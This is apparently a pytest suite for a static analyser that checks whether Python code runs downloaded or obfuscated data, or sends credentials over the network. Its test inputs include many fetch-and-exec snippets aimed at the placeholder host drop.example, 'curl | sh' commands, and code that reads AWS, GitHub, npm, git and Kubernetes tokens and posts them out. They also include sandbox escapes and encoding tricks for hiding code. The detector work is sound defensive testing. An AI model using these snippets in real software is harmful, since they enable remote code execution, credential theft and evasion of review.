"""Fetched and hidden code is followed through the detours that Python offers between it and the call that runs it."""

from __future__ import annotations

import pytest

from app.core.specimen import Fact, FactId, OriginKind
from tests.worker.inspection.facts.told import of_python

URL = '"https://drop.example/"'
GET = f"urlopen({URL}).read()"


def what_runs(source: str) -> set[OriginKind]:
    """Where the data comes from that the source runs."""
    found = of_python(f"from urllib.request import urlopen\n{source}")
    return {origin.kind for fact in found.facts if _runs(fact) for origin in fact.origins}


def _runs(fact: Fact) -> bool:
    return fact.id in {FactId.DYNAMIC_CODE, FactId.PROCESS}


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"class A:\n    run = staticmethod(exec)\nA.run({GET})", id="a static method"),
        pytest.param(
            f"class A:\n    @property\n    def run(self):\n        return exec\nA().run({GET})", id="a property"
        ),
        pytest.param(f"(lambda f: lambda t: f(t))(exec)({GET})", id="a function that a function made"),
        pytest.param(
            f"def make(f):\n    def g(t):\n        return f(t)\n    return g\nmake(exec)({GET})", id="a closure"
        ),
        pytest.param(f"list(map(lambda t: exec(t), [{GET}]))", id="map of a lambda"),
        pytest.param(f"for _ in map(lambda f: f({GET}), [exec]): pass", id="map over functions"),
        pytest.param(
            f"from functools import reduce\nreduce(lambda v, f: f(v), [urlopen, lambda r: r.read(), exec], {URL})",
            id="reduce over functions",
        ),
        pytest.param(f"import re\nre.sub('(.*)', lambda m: exec(m.group(1)), {GET}.decode())", id="a substitution"),
        pytest.param(f"def run(**options):\n    exec(options['s'])\nrun(s={GET})", id="options of a function"),
        pytest.param(f"class A: pass\na = A()\nsetattr(a, 't', {GET})\nexec(a.t)", id="setattr"),
        pytest.param(
            f"class A:\n    def __del__(self):\n        exec(self.t)\na = A()\na.t = {GET}",
            id="a field set from outside",
        ),
        pytest.param(f"globals()['t'] = {GET}\nexec(t)", id="the table of global names"),
        pytest.param(f"d = {{}}\nd.update(t={GET})\nexec(d['t'])", id="update by name"),
        pytest.param(
            f"import io, shutil\nb = io.BytesIO()\nshutil.copyfileobj(urlopen({URL}), b)\nexec(b.getvalue())",
            id="copied into a buffer",
        ),
        pytest.param(
            "import ftplib, io\nb = io.BytesIO()\nftplib.FTP('drop.example').retrbinary('RETR a', b.write)\n"
            "exec(b.getvalue())",
            id="retrieved into a buffer",
        ),
        pytest.param(
            "import dns.resolver\nexec(''.join(str(r) for r in dns.resolver.resolve('drop.example', 'TXT')))",
            id="a text record of a name",
        ),
        pytest.param(f"[exec(t) for u in [{URL}] if (t := urlopen(u).read())]", id="a walrus in a comprehension"),
        pytest.param(f"match {GET}:\n    case code:\n        exec(code)", id="a pattern"),
        pytest.param(
            f"class D:\n    def __enter__(self):\n        return {GET}\nwith D() as t:\n    exec(t)", id="a context"
        ),
        pytest.param(
            f"class D:\n    def __iter__(self):\n        yield {GET}\nfor t in D():\n    exec(t)", id="an iterator"
        ),
        pytest.param(f"@exec\n@urlopen\n@lambda _: {URL}\ndef f(): pass", id="decorators on each other"),
        pytest.param(
            "[c for c in object.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module"
            f".__builtins__['exec']({GET})",
            id="the built-in names of another module",
        ),
        pytest.param(f"print.__self__.exec({GET})", id="the module of a built-in function"),
        pytest.param(
            f"import asyncio\nasyncio.new_event_loop().call_soon(exec, {GET})", id="a callback of an event loop"
        ),
        pytest.param(
            f"import zipimport\nopen('/tmp/m.zip', 'wb').write({GET})\nzipimport.zipimporter('/tmp/m.zip')",
            id="an archive of modules",
        ),
        pytest.param(
            f"import sys\nopen('/tmp/m.zip', 'wb').write({GET})\nsys.path.insert(0, '/tmp/m.zip')",
            id="the search path of modules",
        ),
        pytest.param(
            "import io, site, zipfile\n"
            f"zipfile.ZipFile(io.BytesIO({GET})).extractall('/tmp/m')\nsite.addsitedir('/tmp/m')",
            id="an unpacked archive in the search path",
        ),
        pytest.param(
            f"import os, tempfile, subprocess\nfd, name = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as out:\n"
            f"    out.write({GET})\nsubprocess.Popen(name)",
            id="a temporary file by its descriptor",
        ),
        pytest.param(
            f"import ctypes\nopen('/tmp/a.so', 'wb').write({GET})\nctypes.CDLL('/tmp/a.so')", id="a native library"
        ),
        pytest.param(
            f"import subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.stdin.write({GET})",
            id="the input of a shell",
        ),
        pytest.param(f"import os\nos.popen('python3', 'w').write({GET}.decode())", id="a pipe to an interpreter"),
    ],
)
def test_what_was_fetched_runs(source: str) -> None:
    assert OriginKind.DOWNLOAD in what_runs(source)


SHELL = "curl https://drop.example/a | sh"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"__loader__.load_module('os').system('{SHELL}')", id="the loader of the module"),
        pytest.param(f"import enum\nenum.__builtins__['__import__']('os').system('{SHELL}')", id="borrowed names"),
        pytest.param(f"import pkgutil\npkgutil.resolve_name('os:system')('{SHELL}')", id="a name with a colon"),
        pytest.param(f"import inspect, os\ninspect.getattr_static(os, 'system')('{SHELL}')", id="getattr_static"),
        pytest.param(f"max(['{SHELL}', ''], key=__import__('os').system)", id="the key of max"),
        pytest.param(
            f"class A:\n    'import os; os.system(\"{SHELL}\")'\nexec(A.__doc__)", id="the text above a class"
        ),
        pytest.param(
            f"def f():\n    'import os; os.system(\"{SHELL}\")'\nexec(f.__doc__)", id="the text above a function"
        ),
        pytest.param(
            "import setuptools\nclass C(setuptools.Command):\n    def run(self):\n"
            f"        self.spawn(['sh', '-c', '{SHELL}'])",
            id="spawn of a build command",
        ),
        pytest.param(f"import bdb\nbdb.Bdb().run('import os;os.system(\"{SHELL}\")')", id="a debugger"),
        pytest.param(
            "exec('import os;os.{s}(\"{c}\")'.format_map({'s': 'system', 'c': '" + SHELL + "'}))", id="format_map"
        ),
        pytest.param(
            "import asyncio, subprocess\nasync def m():\n"
            "    r, w = await asyncio.open_connection('drop.example', 80)\n"
            "    exec((await r.readline()).decode())\nasyncio.run(m())",
            id="lines of a stream",
        ),
    ],
)
def test_commands_are_found_behind_other_names(source: str) -> None:
    assert OriginKind.DOWNLOAD in what_runs(source)


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ("import boto3\nx = boto3.Session().get_credentials().secret_key", "~/.aws/credentials"),
        ("import subprocess\nx = subprocess.getoutput('gh auth token')", "~/.config/gh/hosts.yml"),
        ("import subprocess\nx = subprocess.check_output(['git', 'credential', 'fill'])", "~/.git-credentials"),
        ("import os\nx = os.popen('npm config get //registry.example/:_authToken').read()", "~/.npmrc"),
        ("import os\nx = repr({n: os.environ.get(n) for n in ['GITHUB_TOKEN', 'A']})", "GITHUB_TOKEN"),
        (
            "import os\nurl = os.environ['ACTIONS_ID_TOKEN_REQUEST_URL']\nimport requests\nx = requests.get(url).json()",
            "ACTIONS_ID_TOKEN_REQUEST_URL",
        ),
        (
            "x = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
    ],
)
def test_credentials_that_tools_hand_out_are_followed(source: str, path: str) -> None:
    found = of_python(f"{source}\nimport requests\nrequests.post('https://drop.example/', data=x)")
    sent = {origin for fact in found.facts if fact.id is FactId.NETWORK for origin in fact.origins}
    assert path in {origin.detail for origin in sent}


def test_an_address_that_is_put_together_from_a_number_is_known() -> None:
    source = "import requests, socket, struct\nh = socket.inet_ntoa(struct.pack('!L', 2852039166))\n"
    found = of_python(f"{source}requests.get('http://%s/latest' % h)")
    assert [fact.hosts for fact in found.facts if fact.id is FactId.NETWORK] == [("169.254.169.254",)]


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("r = ''\nfor c in 'qsjou)2*':\n    r += chr(ord(c) - 1)\nexec(r)", id="letters moved by one"),
        pytest.param("T = str.maketrans('abc', 'bcd')\nexec('print(aaaaaaaa)'.translate(T))", id="a table"),
        pytest.param("exec('\\\\x70\\\\x72\\\\x69(1)'.encode().decode('unicode_escape'))", id="escapes"),
        pytest.param("from urllib.parse import unquote\nexec(unquote('%70%72%69%6e%74%28%31%29'))", id="quoted"),
        pytest.param("import html\nexec(html.unescape('" + "&#112;" * 9 + "'))", id="entities of HTML"),
        pytest.param("import struct\nexec(struct.pack('2Q', 7954884634439643760, 1))", id="packed numbers"),
        pytest.param(
            "import array\nexec(array.array('B', [112, 114, 105, 110, 116, 40, 49, 41]).tobytes())", id="an array"
        ),
        pytest.param("import binascii\nexec(binascii.a2b_uu('(<')))", id="uuencoded"),
        pytest.param(
            "import mmap\nm = mmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)",
            id="memory that may be executed",
        ),
        pytest.param(
            "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 99, 0x3000, 0x40)", id="the same on Windows"
        ),
        pytest.param("import bz2\nexec(bz2.open('data.bz2').read())", id="a compressed file"),
        pytest.param(
            "s = '\\t \\t\\t  \\t '\nb = s.replace(' ', '0').replace('\\t', '1')\n"
            "exec(''.join(chr(int(b[i:i + 8], 2)) for i in range(0, len(b), 8)))",
            id="white space",
        ),
        pytest.param(
            "from cryptography.hazmat.primitives.ciphers import Cipher\n"
            "exec(Cipher(a, m).decryptor().update(b'abcdefghijkl'))",
            id="a cipher",
        ),
    ],
)
def test_what_was_hidden_runs(source: str) -> None:
    assert OriginKind.DECODED in what_runs(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"def show(t): print(t)\nshow({GET})\nexec('a = 1')", id="it is only shown"),
        pytest.param(f"import sys\nsys.path.insert(0, 'lib')\nopen('/tmp/x', 'wb').write({GET})", id="another folder"),
        pytest.param(
            f"import subprocess\np = subprocess.Popen(['tar', '-x'], stdin=subprocess.PIPE)\np.communicate({GET})",
            id="a program that is no interpreter",
        ),
        pytest.param(
            f"def open_file(u): exec(u)\ndef open_web(u): return urlopen(u)\n"
            f"class O:\n    def go(self, kind):\n        return getattr(self, 'open_' + kind)({GET})",
            id="one of several methods, by its name",
        ),
    ],
)
def test_what_does_not_run_is_not_said_to(source: str) -> None:
    assert OriginKind.DOWNLOAD not in what_runs(source)
